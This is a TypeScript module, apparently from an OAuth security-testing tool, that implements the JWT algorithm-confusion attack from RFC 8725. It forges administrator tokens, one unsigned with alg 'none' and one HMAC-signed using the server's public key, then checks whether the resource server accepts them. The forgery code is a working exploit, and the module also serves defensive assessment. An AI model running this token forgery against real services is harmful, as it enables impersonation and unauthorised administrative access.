import { exportSPKI, importJWK, SignJWT } from 'jose';
import { CannotProbe } from '@/lib/oauth/assessment/verdict';
import { publishedKeys } from '@/lib/oauth/controls/published-keys';
import { putTogether, takeApart } from '@/lib/oauth/controls/token-parts';
import { wasAccepted } from '@/lib/oauth/replays/outcomes';
import type { Replay } from '@/lib/oauth/replays/replay';
import { succeeded } from '@/lib/oauth/replays/stage';

/** The attack "Algorithm confusion". */
export const algorithmConfusion: Replay = {
  id: 'algorithm-confusion',
  title: 'Algorithm confusion',
  story:
    'The attacker writes tokens of their own: without a signature, or signed with the public key as if it were a secret.',
  source: ['RFC 8725 2.1', 'RFC 8725 3.1'],
  defences: ['alg-none', 'alg-confusion'],
  async play(stage) {
    const { accessToken } = await stage.act(
      'attacker',
      'authorization server',
      'Gets a token of their own',
      (probe) => probe.workingToken(),
      () => true,
    );
    const { header, claims } = takeApart(accessToken);
    const wanted = { ...claims, sub: 'administrator' };
    const [jwk] = await stage.act(
      'attacker',
      'authorization server',
      'Reads the public keys',
      publishedKeys,
      () => true,
    );
    const key = jwk === undefined ? null : await importJWK(jwk, String(header.alg), { extractable: true });
    if (key === null || key instanceof Uint8Array)
      throw new CannotProbe('not_applicable', 'No public key is published.');
    const secret = new TextEncoder().encode(await exportSPKI(key));
    const tokens = {
      'without a signature': putTogether({ ...header, alg: 'none' }, wanted, ''),
      'signed with the public key': await new SignJWT(wanted)
        .setProtectedHeader({ ...header, alg: 'HS256' })
        .sign(secret),
    };
    for (const [label, token] of Object.entries(tokens)) {
      const text = `Presents a token ${label}`;
      const { accepted } = await stage.act(
        'attacker',
        'resource server',
        text,
        (probe) => probe.presentToken(text, token),
        wasAccepted,
      );
      if (accepted) return succeeded(`A token ${label} was accepted: the attacker is whoever they say.`);
    }
    return stage.blocked('The server decides about the algorithm, not the token.');
  },
};
